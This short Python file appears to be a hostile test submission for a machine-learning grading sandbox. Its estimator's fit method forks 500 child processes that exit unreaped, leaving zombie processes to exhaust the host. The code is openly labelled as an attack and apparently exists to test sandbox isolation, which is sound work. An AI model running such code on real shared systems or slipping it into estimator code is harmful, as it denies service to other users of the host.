"""Leaves five hundred processes unburied."""

import os
import time

from nearest import NearestMean


def attack():
    for number in range(500):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError as error:
            print(number, repr(error), flush=True)
            break
    time.sleep(2)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
